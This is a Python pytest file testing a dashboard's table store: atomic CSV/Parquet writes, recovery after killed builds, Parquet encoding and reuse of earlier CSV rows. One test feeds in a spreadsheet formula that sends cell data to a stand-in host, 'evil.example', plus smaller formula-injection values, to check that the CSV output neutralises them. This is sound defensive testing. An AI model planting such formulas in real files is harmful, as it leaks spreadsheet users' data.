import os
import stat

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from dashboard import schema
from dashboard.preprocessing import store
from dashboard.preprocessing.build import BuildOptions, build
from dashboard.preprocessing.tables import typed_frame
from dashboard.spreadsheet import SpreadsheetCsvWriter
from tests.conftest import SEEDS


def _files(folder):
    """The tables and manifest (the map cache's folder beside them changes with every build)."""
    return {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}


def test_a_failing_build_leaves_the_previous_tables_in_place(tmp_path, monkeypatch, reference):
    out = tmp_path / "processed"
    build([SEEDS], out, reference, BuildOptions(workers=1))
    before = _files(out)

    calls = {"n": 0}
    real_write = SpreadsheetCsvWriter.write

    def fail_on_second_table(writer, table):
        calls["n"] += 1
        if calls["n"] == 2:
            raise KeyboardInterrupt  # as if the user pressed Ctrl-C mid-write
        return real_write(writer, table)

    monkeypatch.setattr(SpreadsheetCsvWriter, "write", fail_on_second_table)
    with pytest.raises(KeyboardInterrupt):
        build([SEEDS], out, reference, BuildOptions(workers=1))
    assert _files(out) == before
    assert sorted(path.name for path in tmp_path.iterdir()) == [".processed.lock", "processed"], "staging folder left behind"


def test_a_failed_swap_restores_the_previous_folder(tmp_path, monkeypatch):
    out = tmp_path / "processed"
    out.mkdir()
    (out / "articles.csv").write_text("old")
    staging = tmp_path / "staging"
    staging.mkdir()
    real_rename = type(out).rename

    def rename(self, target):
        if self == staging:
            raise OSError("disk full")
        return real_rename(self, target)

    monkeypatch.setattr(type(out), "rename", rename)
    with pytest.raises(OSError):
        store._swap_in(staging, out)
    assert (out / "articles.csv").read_text() == "old"


def test_write_replaces_the_whole_folder(tmp_path):
    out = tmp_path / "processed"
    out.mkdir()
    (out / "stale.csv").write_text("from an older version")
    frames = {"rejected": pd.DataFrame({"source_path": ["a"], "reason": ["b"]})}
    store.write_tables_atomically(out, frames, {"articles": 0})
    assert sorted(p.name for p in out.iterdir()) == ["build.json", "rejected.csv", "rejected.parquet"]


def test_the_next_build_removes_what_a_killed_build_left_and_nothing_else(tmp_path):
    out = tmp_path / "processed"
    frame = pd.DataFrame({"a": [1]})
    store.write_tables_atomically(out, {"t": frame}, {"n": 1})
    # What kill -9 during the write phase leaves: a staging folder, or a retired one.
    (tmp_path / ".processed.building-abc123").mkdir()
    (tmp_path / ".processed.building-abc123" / "t.parquet").write_bytes(b"half")
    (tmp_path / ".processed.previous-def456").mkdir()
    (tmp_path / "unrelated").mkdir()
    assert len(store.debris_of_killed_builds(out.resolve())) == 2
    store.write_tables_atomically(out, {"t": frame}, {"n": 2})
    assert sorted(path.name for path in tmp_path.iterdir()) == [".processed.lock", "processed", "unrelated"]
    assert store.read_manifest(out) == {"n": 2}


def test_extra_files_are_written_with_the_tables(tmp_path):
    out = tmp_path / "processed"
    store.write_tables_atomically(out, {"t": pd.DataFrame({"a": [1]})}, {}, {"debug.log": "trace\n"})
    assert (out / "debug.log").read_text() == "trace\n"


def test_tables_retired_by_a_build_killed_mid_swap_come_back(tmp_path):
    out = tmp_path / "processed"
    store.write_tables_atomically(out, {"t": pd.DataFrame({"a": [1]})}, {"n": 1})
    # kill -9 between the two renames of the swap: the output is gone, the old tables retired.
    out.rename(tmp_path / ".processed.previous-xyz")
    assert store.tables_restored_from_a_killed_swap(out.resolve())
    assert store.read_manifest(out) == {"n": 1}
    (tmp_path / ".processed.previous-xyz").mkdir()
    assert not store.tables_restored_from_a_killed_swap(out.resolve())


def test_the_next_build_after_a_killed_swap_keeps_the_old_tables_until_it_swaps(tmp_path, monkeypatch):
    out = tmp_path / "processed"
    store.write_tables_atomically(out, {"t": pd.DataFrame({"a": [1]})}, {"n": 1})
    out.rename(tmp_path / ".processed.previous-xyz")

    def interrupted(staging, target):
        raise KeyboardInterrupt

    monkeypatch.setattr(store, "_swap_in", interrupted)
    with pytest.raises(KeyboardInterrupt):
        store.write_tables_atomically(out, {"t": pd.DataFrame({"a": [2]})}, {"n": 2})
    assert store.read_manifest(out) == {"n": 1}


def test_the_tables_folder_is_readable_by_others_as_the_umask_allows(tmp_path):
    out = tmp_path / "processed"
    previous = os.umask(0o022)
    try:
        store.write_tables_atomically(out, {"t": pd.DataFrame({"a": [1]})}, {})
    finally:
        os.umask(previous)
    assert stat.S_IMODE(out.stat().st_mode) == 0o755


def test_csv_files_are_spreadsheet_safe_and_parquet_keeps_the_text(tmp_path):
    out = tmp_path / "processed"
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    frames = {"rejected": pd.DataFrame({"source_path": pd.array([hostile, "-2 dead.txt"], dtype="string"), "reason": ["b", "c"]})}
    store.write_tables_atomically(out, frames, {"articles": 0})
    csv = (out / "rejected.csv").read_bytes()
    assert csv.startswith(b"\xef\xbb\xbf") and b"\r\n" in csv
    assert pd.read_csv(out / "rejected.csv", encoding="utf-8-sig")["source_path"].tolist() == ["'" + hostile, "'-2 dead.txt"]
    assert pd.read_parquet(out / "rejected.parquet")["source_path"].tolist() == [hostile, "-2 dead.txt"]


def _sentence_stance(rows):
    return typed_frame(schema.SENTENCE_STANCE, pd.DataFrame(rows, columns=schema.SENTENCE_STANCE.column_names))


def test_table_files_take_pieces_in_order_and_give_their_columns_back(tmp_path):
    files = store.TableFiles(tmp_path)
    first = _sentence_stance([["a1", "a1-0", "kim", 0.5, "=cmd", False], ["a1", "a1-1", "lee", -0.25, "", True]])
    second = _sentence_stance([["a2", "a2-0", "kim", None, "x", False]])
    for piece in (first, first.iloc[:0], second):
        files.append(schema.SENTENCE_STANCE, piece)
    assert files.rows(schema.SENTENCE_STANCE) == 3
    whole = pd.concat([first, second], ignore_index=True)
    columns = files.columns_of(schema.SENTENCE_STANCE, ["article_id", "score"])
    assert columns.columns.tolist() == ["article_id", "score"]
    assert columns["article_id"].tolist() == ["a1", "a1", "a2"] and columns["score"].tolist()[:2] == [0.5, -0.25]
    assert columns["score"].isna().tolist() == [False, False, True]
    pd.testing.assert_frame_equal(store.read_table(tmp_path, schema.SENTENCE_STANCE), whole)
    with pytest.raises(ValueError, match="closed"):
        files.append(schema.SENTENCE_STANCE, second)
    assert files.rows(schema.SENTENCE_STANCE) == 3
    assert pd.read_csv(tmp_path / "sentence_stance.csv", encoding="utf-8-sig", keep_default_na=False)["label"].tolist() == ["'=cmd", "", "x"]


def test_a_table_with_no_rows_gets_both_files_with_its_columns(tmp_path):
    files = store.TableFiles(tmp_path)
    files.append(schema.QUOTES, typed_frame(schema.QUOTES, pd.DataFrame(columns=schema.QUOTES.column_names)))
    files.close_all()
    assert store.read_table(tmp_path, schema.QUOTES).columns.tolist() == schema.QUOTES.column_names
    assert len(store.read_table(tmp_path, schema.QUOTES)) == 0
    header = ",".join(f'"{name}"' for name in schema.QUOTES.column_names)
    assert (tmp_path / "quotes.csv").read_bytes() == b"\xef\xbb\xbf" + header.encode() + b"\r\n"


@pytest.mark.parametrize(
    ("columns", "expected"),
    [
        # Labels repeat: a dictionary; sentences never do: none; numbers always keep one.
        ({"label": ["critical", "neutral"] * 50, "text": [f"Sentence {i}." for i in range(100)], "n": list(range(100))}, ["label", "n"]),
        # Half the values distinct is distinct enough to go without.
        ({"id": [f"a{i % 49}" for i in range(100)]}, ["id"]),
        ({"id": [f"a{i // 2}" for i in range(100)]}, []),
        # Nulls count as one value; an empty table keeps every dictionary.
        ({"quote": [None] * 99 + ["Yes."]}, ["quote"]),
        ({"quote": pa.array([], pa.large_string())}, ["quote"]),
    ],
)
def test_only_text_columns_whose_values_repeat_get_a_parquet_dictionary(columns, expected):
    assert store.dictionary_columns(pa.table(columns)) == expected


def test_written_text_columns_that_never_repeat_have_no_dictionary_pages_nor_statistics(tmp_path):
    frame = pd.DataFrame({
        "label": ["critical", "neutral"] * 500, "text": [f"Sentence number {i}." for i in range(1000)], "n": range(1000),
    })
    store.write_table_files(tmp_path, {"t": frame})
    chunks = pq.ParquetFile(tmp_path / "t.parquet").metadata.row_group(0)
    columns = {chunks.column(i).path_in_schema: chunks.column(i) for i in range(chunks.num_columns)}
    assert "RLE_DICTIONARY" in columns["label"].encodings
    assert "RLE_DICTIONARY" not in columns["text"].encodings
    assert (columns["label"].statistics.min, columns["label"].statistics.max) == ("critical", "neutral")
    assert (columns["n"].statistics.min, columns["n"].statistics.max) == (0, 999)
    assert columns["text"].statistics is None
    assert pq.read_table(tmp_path / "t.parquet").to_pandas().equals(frame)


def _numbered_stance(first, count):
    return _sentence_stance([[f"a{i // 3}", f"a{i // 3}-{i % 3}", "kim", i / 100, "=x" if i % 7 == 0 else "", i % 2 == 0] for i in range(first, first + count)])


def _written_sentence_stance(folder, pieces):
    """`sentence_stance` files written from (rows, reused) pieces; their CSV's bytes."""
    files = store.TableFiles(folder)
    for rows, reused in pieces:
        files.append(schema.SENTENCE_STANCE, rows, reused)
    files.close_all()
    return (folder / "sentence_stance.csv").read_bytes()


def test_rows_reused_from_an_earlier_build_are_copied_from_its_csv_as_they_would_be_written(tmp_path, monkeypatch):
    monkeypatch.setattr("dashboard.spreadsheet.CHECKPOINT_ROWS", 4)
    copied = []
    real_copy = SpreadsheetCsvWriter.write_copied
    monkeypatch.setattr(SpreadsheetCsvWriter, "write_copied", lambda writer, *args: copied.append(args[2:]) or real_copy(writer, *args))
    earlier, later, fresh = (tmp_path / name for name in ("earlier", "later", "fresh"))
    for folder in (earlier, later, fresh):
        folder.mkdir()
    _written_sentence_stance(earlier, [(_numbered_stance(0, 30), None)])
    previous = store.previous_csv(earlier, schema.SENTENCE_STANCE)
    assert previous is not None and previous.checkpoints.rows.tolist() == [0, 4, 8, 12, 16, 20, 24, 28, 30]
    kept = pa.Table.from_pandas(_numbered_stance(3, 22), preserve_index=False)
    new = pa.Table.from_pandas(_numbered_stance(100, 5), preserve_index=False)
    # New rows, then new rows leading rows 3 to 25 of the earlier build's in one piece, then new rows again.
    pieces = [(new, None), (pa.concat_tables([new, kept]), store.ReusedRows(previous, 3, at=5)), (new, None)]
    reused_bytes = _written_sentence_stance(later, pieces)
    assert copied == [(4, 24)], "the rows between checkpoints 4 and 24 are copied, the others formatted"
    assert reused_bytes == _written_sentence_stance(fresh, [(rows, None) for rows, _ in pieces])
    # The later file's checkpoints hold too: its rows can be copied again.
    again = store.previous_csv(later, schema.SENTENCE_STANCE)
    assert again is not None and again.checkpoints.rows[-1] == 37 and again.checkpoints.offsets[-1] == len(reused_bytes)


@pytest.mark.parametrize(
    "change", ["saved by a spreadsheet", "replaced by another file", "no checkpoints", "damaged checkpoints", "cut checkpoints", "another writer"],
)
def test_a_csv_changed_since_its_build_or_without_usable_checkpoints_is_not_copied_from(tmp_path, monkeypatch, change):
    _written_sentence_stance(tmp_path, [(_numbered_stance(0, 30), None)])
    csv = tmp_path / "sentence_stance.csv"
    checkpoints = tmp_path / ".sentence_stance.csv-rows.npz"
    assert store.previous_csv(tmp_path, schema.SENTENCE_STANCE) is not None
    if change == "saved by a spreadsheet":
        written = csv.stat()
        csv.write_bytes(csv.read_bytes().replace(b"kim", b"Kim"))
        # The clock the file system stamps with may not have moved since the build wrote it.
        os.utime(csv, ns=(written.st_atime_ns, written.st_mtime_ns + 10**9))
    elif change == "replaced by another file":
        replacement = tmp_path / "replacement.csv"
        replacement.write_bytes(csv.read_bytes())
        os.utime(replacement, ns=(csv.stat().st_atime_ns, csv.stat().st_mtime_ns))
        replacement.replace(csv)
    elif change == "no checkpoints":
        checkpoints.unlink()
    elif change == "damaged checkpoints":
        checkpoints.write_bytes(b"not numpy")
    elif change == "cut checkpoints":
        checkpoints.write_bytes(checkpoints.read_bytes()[:100])
    else:
        monkeypatch.setattr(store, "_csv_format", lambda: "a later CSV writer")
    assert store.previous_csv(tmp_path, schema.SENTENCE_STANCE) is None


@pytest.mark.parametrize("change", ["replaced", "cut short"])
def test_a_csv_that_changes_after_its_check_is_not_copied_from(tmp_path, change):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("dashboard.spreadsheet.CHECKPOINT_ROWS", 4)
        _written_sentence_stance(tmp_path, [(_numbered_stance(0, 30), None)])
    previous = store.previous_csv(tmp_path, schema.SENTENCE_STANCE)
    csv = tmp_path / "sentence_stance.csv"
    if change == "replaced":
        replacement = tmp_path / "replacement.csv"
        replacement.write_bytes(csv.read_bytes())
        replacement.replace(csv)
    else:
        written = csv.stat()
        with csv.open("r+b") as handle:
            handle.truncate(written.st_size // 2)
        os.utime(csv, ns=(written.st_atime_ns, written.st_mtime_ns))
        # Same inode and times, shorter: the bytes run out while they are read.
        previous = store.PreviousCsv(previous.path, previous.checkpoints, (written.st_size // 2, *previous.identity[1:]))
    with pytest.raises(store.PreviousCsvChanged):
        b"".join(previous.pieces_of(0, 28))
